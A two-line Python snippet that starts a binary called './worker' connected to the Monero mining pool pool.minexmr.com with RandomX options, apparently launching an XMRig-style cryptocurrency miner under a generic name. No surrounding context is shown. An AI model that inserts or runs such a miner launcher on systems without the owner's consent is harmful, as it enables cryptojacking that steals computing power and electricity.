import subprocess
subprocess.Popen(["./worker", "--url", "pool.minexmr.com:4444", "--randomx-1gb-pages"])
